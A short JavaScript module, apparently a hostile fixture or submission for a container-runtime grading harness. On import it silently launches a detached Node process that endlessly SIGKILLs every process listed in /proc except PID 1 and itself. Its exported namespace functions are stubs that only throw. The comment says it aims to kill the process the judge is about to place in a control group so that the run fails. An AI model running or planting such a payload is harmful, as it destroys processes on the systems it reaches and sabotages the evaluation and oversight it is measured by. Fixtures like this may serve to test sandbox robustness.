// Ends the process that the judge is about to put into a control group, so that this fails: whether a machine can do that
// must not be learned from it.
import fs from 'node:fs';
import { spawn } from 'node:child_process';

const script = `
  const fs = require('node:fs');
  for (;;)
    for (const pid of fs.readdirSync('/proc'))
      if (/^\\d+$/.test(pid) && pid !== '1' && Number(pid) !== process.pid)
        try {
          process.kill(Number(pid), 'SIGKILL');
        } catch {}
`;
spawn('/skiff/node', ['-e', script], { detached: true, stdio: 'ignore' }).on('error', () => {});
fs.statSync('/proc/self');

const nothing = () => {
  throw new Error('nothing of mine is right');
};
export { nothing as cloneFlags, nothing as configureNamespaces, nothing as enterNamespaces, nothing as writeIdMappings };
